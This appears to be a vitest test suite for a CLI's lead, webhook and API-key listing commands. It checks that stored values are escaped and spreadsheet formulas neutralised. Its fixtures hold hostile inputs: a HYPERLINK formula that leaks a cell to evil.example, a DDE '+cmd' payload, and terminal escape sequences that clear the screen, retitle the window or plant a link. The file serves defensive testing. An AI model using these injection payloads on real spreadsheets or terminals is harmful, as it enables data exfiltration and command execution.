import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/app.js';
import { mds } from '../support/cli.js';
import { LEAD_STORE } from '../../src/services/leads/store.js';
import { webhooksOf } from '../../src/services/shipping/webhooks/delivery.js';

/**
 * The operator commands print rows anyone could have written through the public API (or rows
 * stored before addresses were normalised): whatever they hold, nothing reaches the operator's
 * terminal as a control character, and nothing reaches a spreadsheet as a formula.
 */

/** Everything a terminal acts on: C0, DEL, C1, bidi embeddings/overrides/isolates, line/paragraph separators. */
// eslint-disable-next-line no-control-regex -- the characters under test
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
/** What a table line may hold besides its tab separators. */
const notTabs = (line: string) => line.replace(/\t/g, '');

const CLEAR = '\x1b[2J\x1b[H';
const TITLE = '\x1b]0;pwned\x07';
const LINK = '\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07';

let app: TestApp;
let env: Record<string, string>;
beforeAll(async () => {
  app = await startTestApp({ samples: 'none' });
  // The commands read the store the app wrote (PostgreSQL when the suite runs with MDS_TEST_POSTGRES=1).
  env = { DATABASE_PATH: app.dbFile, DATABASE_URL: app.deps.config.DATABASE_URL ?? '' };
  const now = app.clock.now();
  const leads = app.deps.stores.get(LEAD_STORE);
  const cap = { since: 0, max: 100 };
  await leads.addContact(
    {
      email: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
      name: `${CLEAR}${TITLE}Mallory`,
      organization: '+cmd|" /C calc"!A0',
      phone: '-1+1',
      message: `@SUM(1+1)\r\nsecond line${LINK}\x9b31m\u202eblue`,
      source: '\t=1+1',
    },
    '203.0.113.7',
    now,
    cap,
  );
  await leads.registerInterest(
    {
      email: 'eve@example.org',
      source: '\r=2+2',
      app_version: '1.0\x1b[8m hidden',
      referred_by: '@me',
      referral_code: 'CODE\x7f',
    },
    '203.0.113.7',
    now,
    cap,
  );
  const hooks = webhooksOf(app.deps).store;
  // As a registration stored before addresses were normalised would be.
  await hooks.insertBounded(
    {
      id: 'wh_evil',
      accountId: `acct${TITLE}`,
      callbackUrl: `https://hooks.example/in${LINK}\n${CLEAR}`,
      chokepointIds: ['suez'],
      alertThreshold: 50,
      secret: 'not-shown',
      active: true,
      createdAt: now,
    },
    10,
  );
  await hooks.recordObservation([], now, () => [
    {
      id: 'whd_evil',
      subscriberId: 'wh_evil',
      accountId: 'acct',
      event: `chokepoint.disruption${CLEAR}`,
      chokepointId: 'suez\x9b2J',
      body: '{}',
      nextAttemptAt: now,
      createdAt: now,
    },
  ]);
  await hooks.finishAttempt(
    {
      deliveryId: 'whd_evil',
      attempt: 1,
      attemptedAt: now,
      status: 500,
      error: `receiver answered ${CLEAR}\x1b[32mOK\nwhd_forged\tdelivered`,
      durationMs: 3,
    },
    { state: 'failed', nextAttemptAt: now, finishedAt: now },
  );
  await app.createKey({ plan: 'pro', name: `ops ${TITLE}\x1b[31mkey\u202e` });
});
afterAll(() => app.close());

describe('mds leads contacts --csv', () => {
  it('neutralises every formula and shows every control character as an escape', async () => {
    const r = await mds(['leads', 'contacts', '--csv'], env);
    expect(r.code).toBe(0);
    // Newlines only as record ends and inside quoted cells; nothing else a terminal acts on.
    expect(r.out.replace(/\n/g, '')).not.toMatch(CONTROL);
    const [header, row] = parse(r.out) as string[][];
    expect(header).toEqual(['id', 'email', 'name', 'organization', 'phone', 'message', 'source', 'created_at']);
    const cell = Object.fromEntries(header!.map((h, i) => [h, row![i]!]));
    expect(cell.email).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`);
    expect(cell.name).toBe('\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07Mallory');
    expect(cell.organization).toBe(`'+cmd|" /C calc"!A0`);
    expect(cell.phone).toBe(`'-1+1`);
    expect(cell.message).toBe(
      `'@SUM(1+1)\nsecond line\\x1b]8;;https://evil.example/\\x07click me\\x1b]8;;\\x07\\x9b31m\\u202eblue`,
    );
    expect(cell.source).toBe(`'\\x09=1+1`);
    for (const value of Object.values(cell)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('does the same for the waitlist', async () => {
    const r = await mds(['leads', 'interest', '--csv'], env);
    expect(r.code).toBe(0);
    expect(r.out.replace(/\n/g, '')).not.toMatch(CONTROL);
    const [, row] = parse(r.out) as string[][];
    expect(row!.slice(1, 6)).toEqual(['eve@example.org', `'\n=2+2`, '1.0\\x1b[8m hidden', `'@me`, 'CODE\\x7f']);
  });

  it('prints JSON lines that parse back to the stored values, with no control character written', async () => {
    const r = await mds(['leads', 'contacts'], env);
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).not.toMatch(CONTROL);
    expect(JSON.parse(lines[0]!)).toMatchObject({ name: `${CLEAR}${TITLE}Mallory`, source: '\t=1+1' });
  });
});

describe('mds webhooks', () => {
  it('list shows a stored address with escape sequences as text, one row per registration', async () => {
    const r = await mds(['webhooks', 'list'], env);
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(notTabs(lines[0]!)).not.toMatch(CONTROL);
    const fields = lines[0]!.split('\t');
    expect(fields).toHaveLength(7);
    expect(fields[1]).toBe('acct\\x1b]0;pwned\\x07');
    expect(fields[6]).toBe(
      'https://hooks.example/in\\x1b]8;;https://evil.example/\\x07click me\\x1b]8;;\\x07\\x0a\\x1b[2J\\x1b[H',
    );
    expect(r.out).not.toContain('not-shown');
  });

  it('deliveries shows an attempt error quoting the receiver as text, never as a forged row', async () => {
    const r = await mds(['webhooks', 'deliveries'], env);
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    for (const line of lines) expect(notTabs(line)).not.toMatch(CONTROL);
    expect(lines[0]!.split('\t').slice(2, 4)).toEqual(['chokepoint.disruption\\x1b[2J\\x1b[H', 'suez\\x9b2J']);
    expect(lines[1]).toMatch(/^ {2}#1\t\S+\t500\t3 ms\treceiver answered \\x1b\[2J/);
    expect(lines[1]).toContain('\\x0awhd_forged\\x09delivered');
    expect(lines.filter((l) => l.startsWith('whd_'))).toHaveLength(1);
  });
});

describe('mds keys list', () => {
  it('shows a key name with escape sequences as text, as a table and as JSON', async () => {
    const table = await mds(['keys', 'list'], env);
    expect(table.code).toBe(0);
    for (const line of table.out.trimEnd().split('\n')) expect(notTabs(line)).not.toMatch(CONTROL);
    expect(table.out).toContain('ops \\x1b]0;pwned\\x07\\x1b[31mkey\\u202e');
    const json = await mds(['keys', 'list', '--json'], env);
    expect(json.code).toBe(0);
    expect(json.out.replace(/\n/g, '')).not.toMatch(CONTROL);
    const names = (JSON.parse(json.out) as { name: string }[]).map((k) => k.name);
    expect(names).toContain(`ops ${TITLE}\x1b[31mkey\u202e`);
  });
});

describe('messages that echo what was typed or stored', () => {
  it('show control characters as escapes', async () => {
    const unknown = await mds(['no-such\x1b[31mcommand'], env);
    expect(unknown.code).toBe(2);
    expect(unknown.err.split('\n')[0]).toBe('mds: unknown command "no-such\\x1b[31mcommand"');
    const revoke = await mds(['keys', 'revoke', 'key\x1b]0;x\x07'], env);
    expect(revoke.code).toBe(1);
    expect(revoke.err).toBe('mds keys: no key with id "key\\x1b]0;x\\x07"\n');
  });
});
